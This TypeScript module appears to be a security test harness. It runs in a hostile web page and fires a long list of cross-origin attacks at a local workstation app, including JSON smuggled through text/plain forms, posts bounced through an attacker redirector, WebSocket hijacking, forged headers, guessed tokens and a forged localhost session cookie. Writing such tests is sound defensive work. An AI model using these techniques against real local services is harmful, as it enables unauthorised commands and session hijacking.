/** What the attacker is assumed to know: everything but the token, the cookie and the codes. */
export type Target = {
  /** Origins under which the workstation can be reached from this computer, the browser's own first. */
  readonly origins: readonly string[];
  readonly socketPath: string;
  readonly order: string;
  /** The attacker's own redirector: the address follows it. */
  readonly redirector: string;
};

/** What an attack got: `null` is nothing that a page can see; anything else is what it could read or do. */
export type Loot = { readonly attack: string; readonly got: string | null };

/**
 * Runs in the hostile page: tries everything that a page may try against an address and says what came of it. Attacks whose effect a
 * page cannot see (opaque answers, forms) are judged at the workstation: nothing may have reached its core.
 */
export async function attack(target: Target): Promise<Loot[]> {
  const attempts: Promise<Loot>[] = [];
  const patienceMs = 3_000;

  const attempt = (name: string, run: () => Promise<string | null>): void => {
    const late = new Promise<null>((resolve) => setTimeout(() => resolve(null), patienceMs));
    const caught = async (): Promise<string | null> => run().catch(() => null);
    attempts.push(Promise.race([caught(), late]).then((got) => ({ attack: name, got })));
  };

  const read = async (url: string, init: RequestInit = {}): Promise<string | null> => {
    const answer = await fetch(url, { credentials: 'include', signal: AbortSignal.timeout(patienceMs), ...init });
    // Under a name that we refuse the page may read the refusal, as it stands under its own name.
    return answer.type === 'opaque' || answer.type === 'opaqueredirect' || answer.status === 403 ? null : `read ${answer.status} ${await answer.text()}`;
  };

  const element = (name: string, tag: string, attributes: Readonly<Record<string, string>>): void =>
    attempt(name, () =>
      new Promise((resolve) => {
        const made = document.createElement(tag);
        // These load whatever the answer is.
        const canTell = !['iframe', 'object', 'embed'].includes(tag) && attributes['rel'] !== 'preload';
        made.addEventListener('load', () => resolve(canTell ? 'loaded' : null));
        made.addEventListener('loadeddata', () => resolve('loaded'));
        made.addEventListener('error', () => resolve(null));
        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
        document.body.append(made);
      }),
    );

  const submit = (name: string, action: string, method: string, enctype: string): void =>
    attempt(name, () =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.name = name;
        const form = document.createElement('form');
        Object.assign(form, { action, method, enctype, target: name });
        const field = document.createElement('input');
        // As text/plain the body becomes the order itself: the equals sign ends up in a name nobody reads.
        field.name = target.order.replace(/\}$/, ',"x":"');
        field.value = '"}';
        form.append(field);
        document.body.append(frame, form);
        frame.addEventListener('load', () => resolve(frame.contentDocument?.body.innerText ? `read ${frame.contentDocument.body.innerText}` : null));
        form.submit();
      }),
    );

  const socket = (name: string, url: string): void =>
    attempt(name, () =>
      new Promise((resolve) => {
        const made = new WebSocket(url);
        made.addEventListener('open', () => {
          made.send(target.order);
          resolve('opened a socket');
        });
        made.addEventListener('error', () => resolve(null));
      }),
    );

  for (const origin of target.origins) {
    const api = `${origin}/api/v1`;
    const at = (name: string): string => `${name} ${origin}`;
    const post = { method: 'POST', body: target.order } as const;
    const asJson = { 'content-type': 'application/json' };

    for (const path of ['/', '/assets/window.js', '/login', '/favicon.svg', '/api/v1/system/info', '/api/v1/orders', '/api/v1/openapi.json']) {
      attempt(at(`read ${path}`), () => read(origin + path));
      attempt(at(`read blindly ${path}`), () => read(origin + path, { mode: 'no-cors' }));
    }
    attempt(at('post JSON'), () => read(`${api}/orders`, { ...post, headers: asJson }));
    attempt(at('post JSON as text'), () => read(`${api}/orders`, { ...post, mode: 'no-cors', headers: { 'content-type': 'text/plain' } }));
    attempt(at('post JSON without a type'), () => read(`${api}/orders`, { ...post, mode: 'no-cors', body: new Blob([target.order]) }));
    attempt(at('post JSON as a form'), () => read(`${api}/orders`, { ...post, mode: 'no-cors', headers: { 'content-type': 'application/x-www-form-urlencoded' } }));
    attempt(at('post JSON as a form with a JSON parameter'), () => read(`${api}/orders`, { ...post, mode: 'no-cors', headers: { 'content-type': 'text/plain; application/json' } }));
    attempt(at('post JSON kept alive'), () => read(`${api}/orders`, { ...post, mode: 'no-cors', keepalive: true }));
    attempt(at('post with forged headers'), () =>
      read(`${api}/orders`, { ...post, headers: { ...asJson, origin, referer: origin, 'sec-fetch-site': 'same-origin', host: new URL(origin).host, cookie: 'tapedeck-session=x' } }));
    attempt(at('post with a guessed token'), () => read(`${api}/orders`, { ...post, headers: { ...asJson, authorization: 'Bearer guess' } }));
    attempt(at('override the method'), () => read(`${api}/orders?_method=POST`, { headers: { 'x-http-method-override': 'POST' } }));
    for (const method of ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD']) attempt(at(method), () => read(`${api}/orders`, { method }));
    attempt(at('beacon of JSON'), async () => (navigator.sendBeacon(`${api}/orders`, new Blob([target.order], { type: 'application/json' })), null));
    attempt(at('beacon of text'), async () => (navigator.sendBeacon(`${api}/orders`, target.order), null));

    for (const status of [302, 307, 308]) {
      const via = `${target.redirector}?status=${status}&to=${encodeURIComponent(`${api}/orders`)}`;
      attempt(at(`post by redirect ${status}`), () => read(via, { ...post, mode: 'no-cors', headers: { 'content-type': 'text/plain' } }));
      attempt(at(`post JSON by redirect ${status}`), () => read(via, { ...post, headers: asJson }));
      submit(at(`form by redirect ${status}`), via, 'post', 'text/plain');
    }
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) submit(at(`form ${enctype}`), `${api}/orders`, 'post', enctype);
    submit(at('form by GET'), `${api}/orders`, 'get', 'text/plain');
    submit(at('login form'), `${origin}/login?code=guess`, 'get', 'text/plain');
    submit(at('login links'), `${origin}/login-links`, 'post', 'text/plain');

    const socketUrl = origin.replace('http', 'ws') + target.socketPath;
    socket(at('socket'), socketUrl);
    socket(at('socket with a token in the address'), `${socketUrl}?token=guess`);
    attempt(at('event source'), () =>
      new Promise((resolve) => {
        const source = new EventSource(`${api}/system/health/watch`, { withCredentials: true });
        source.addEventListener('open', () => resolve('opened a stream'));
        source.addEventListener('error', () => (source.close(), resolve(null)));
      }));

    element(at('script of the API'), 'script', { src: `${api}/orders` });
    element(at('script of the page'), 'script', { src: `${origin}/assets/window.js` });
    element(at('module of the page'), 'script', { type: 'module', src: `${origin}/assets/window.js`, crossorigin: 'use-credentials' });
    element(at('image'), 'img', { src: `${origin}/favicon.svg` });
    element(at('style'), 'link', { rel: 'stylesheet', href: `${origin}/page.css` });
    element(at('preload'), 'link', { rel: 'preload', as: 'fetch', href: `${api}/orders` });
    element(at('video'), 'video', { src: `${api}/orders` });
    element(at('frame'), 'iframe', { src: `${origin}/` });
    element(at('object'), 'object', { data: `${origin}/` });
    element(at('embed'), 'embed', { src: `${origin}/` });
    element(at('sandboxed frame'), 'iframe', {
      sandbox: 'allow-scripts allow-forms',
      srcdoc: `<script>fetch('${api}/orders',{method:'POST',mode:'no-cors',credentials:'include',body:${JSON.stringify(target.order)}});new WebSocket('${socketUrl}').onopen=(e)=>e.target.send(${JSON.stringify(target.order)})</script>`,
    });

    attempt(at('opened window'), async () => {
      const opened = window.open(`${origin}/`);
      if (opened === null) return null;
      await new Promise((resolve) => setTimeout(resolve, 300));
      try {
        return opened.document.title === '' ? null : `saw ${opened.document.title}`;
      } catch {
        return null;
      } finally {
        opened.close();
      }
    });
    attempt(at('service worker'), async () => (await navigator.serviceWorker.register(`${origin}/assets/window.js`)).scope);
    attempt(at('worker'), () =>
      new Promise((resolve) => {
        const worker = new Worker(`${origin}/assets/window.js`);
        worker.addEventListener('error', () => resolve(null));
        worker.addEventListener('message', () => resolve('ran'));
      }));
    attempt(at('import'), async () => Object.keys((await import(/* @vite-ignore */ `${origin}/assets/window.js`)) as object).join());
    attempt(at('cache'), async () => ((await (await caches.open('x')).add(`${api}/orders`)) === undefined ? 'cached' : null));
  }

  attempt('cookie for all of localhost', async () => {
    document.cookie = 'tapedeck-session=forged; domain=localhost; path=/';
    document.cookie = 'tapedeck-session=forged; path=/';
    return null;
  });
  return Promise.all(attempts);
}
